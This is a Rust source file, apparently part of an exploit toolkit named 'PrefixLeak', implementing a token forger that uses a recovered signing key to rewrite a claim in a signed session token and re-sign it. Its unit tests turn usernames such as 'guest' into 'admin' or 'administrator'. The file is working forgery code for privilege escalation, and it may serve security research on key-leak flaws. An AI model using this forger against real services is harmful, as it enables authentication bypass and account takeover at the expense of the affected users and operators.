// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

use crate::error::{PrefixLeakError, PrefixLeakResult};
use crate::keyfill::RecoveredKey;
use crate::payload;
use crate::token::SignedToken;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ClaimLocator {
    /// The claim stored under this field name.
    Field(String),
    /// A known claim value, e.g. the account the template was issued to.
    Literal(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClaimRewrite {
    pub locator: ClaimLocator,
    pub target: String,
}

impl ClaimRewrite {
    pub fn field(field: impl Into<String>, target: impl Into<String>) -> Self {
        Self {
            locator: ClaimLocator::Field(field.into()),
            target: target.into(),
        }
    }

    pub fn literal(current: impl Into<String>, target: impl Into<String>) -> Self {
        Self {
            locator: ClaimLocator::Literal(current.into()),
            target: target.into(),
        }
    }
}

pub struct TokenForger<'k> {
    key: &'k RecoveredKey,
}

impl<'k> TokenForger<'k> {
    pub fn new(key: &'k RecoveredKey) -> Self {
        Self { key }
    }

    /// Rewrites one claim of `template` and signs the result. Pure: no I/O.
    pub fn forge(&self, template: &SignedToken, rewrite: &ClaimRewrite) -> PrefixLeakResult<SignedToken> {
        let key = self.key.as_bytes();
        if !template.verify(key) {
            return Err(PrefixLeakError::SignatureMismatch(
                "template token does not verify under the recovered key".to_string(),
            ));
        }

        let original = template.payload()?;
        let current = match &rewrite.locator {
            ClaimLocator::Field(field) => payload::read_claim(&original, field)?,
            ClaimLocator::Literal(current) => current.clone(),
        };
        let rewritten = payload::rewrite_claim(&original, &current, &rewrite.target)?;

        let forged = SignedToken::issue(key, &rewritten)?;
        if !forged.verify(key) {
            return Err(PrefixLeakError::SignatureMismatch(
                "forged token failed self-verification".to_string(),
            ));
        }
        tracing::info!(from = %current, to = %rewrite.target, "forged token");
        Ok(forged)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::{encode_claim, encode_field_name, read_claim};

    fn template(key: &[u8], user: &str) -> SignedToken {
        let mut p = Vec::new();
        p.extend_from_slice(&2u64.to_le_bytes());
        p.extend_from_slice(&encode_field_name("username"));
        p.extend_from_slice(&encode_claim(user).unwrap());
        p.extend_from_slice(&encode_field_name("theme"));
        p.extend_from_slice(&encode_claim("dark").unwrap());
        SignedToken::issue(key, &p).unwrap()
    }

    fn key(bytes: [u8; 32]) -> RecoveredKey {
        RecoveredKey::verified(bytes.to_vec(), &SignedToken::issue(&bytes, b"ref").unwrap()).unwrap()
    }

    #[test]
    fn sixteen_to_five_character_rewrite() {
        let k = key([0x5a; 32]);
        let tpl = template(k.as_bytes(), "0123456789abcdef");
        let forged = TokenForger::new(&k)
            .forge(&tpl, &ClaimRewrite::field("username", "admin"))
            .unwrap();

        let reparsed = SignedToken::parse(&forged.encode()).unwrap();
        assert!(reparsed.verify(k.as_bytes()));
        let body = reparsed.payload().unwrap();
        assert_eq!(read_claim(&body, "username").unwrap(), "admin");
        assert_eq!(read_claim(&body, "theme").unwrap(), "dark");
        let tag_at = body
            .windows(7)
            .position(|w| w == b"\"admin\"")
            .unwrap()
            - 8;
        assert_eq!(body[tag_at], 0x07);
    }

    #[test]
    fn literal_locator() {
        let k = key([0x11; 32]);
        let tpl = template(k.as_bytes(), "guest");
        let forged = TokenForger::new(&k)
            .forge(&tpl, &ClaimRewrite::literal("guest", "administrator"))
            .unwrap();
        let body = forged.payload().unwrap();
        assert_eq!(read_claim(&body, "username").unwrap(), "administrator");
    }

    #[test]
    fn template_under_other_key_is_rejected() {
        let k = key([0x11; 32]);
        let tpl = template(&[0x22; 32], "guest");
        let err = TokenForger::new(&k)
            .forge(&tpl, &ClaimRewrite::field("username", "admin"))
            .unwrap_err();
        assert!(matches!(err, PrefixLeakError::SignatureMismatch(_)));
    }

    #[test]
    fn unknown_field_is_reported() {
        let k = key([0x33; 32]);
        let tpl = template(k.as_bytes(), "guest");
        let err = TokenForger::new(&k)
            .forge(&tpl, &ClaimRewrite::field("role", "admin"))
            .unwrap_err();
        assert!(matches!(err, PrefixLeakError::ClaimNotFound(_)));
    }
}
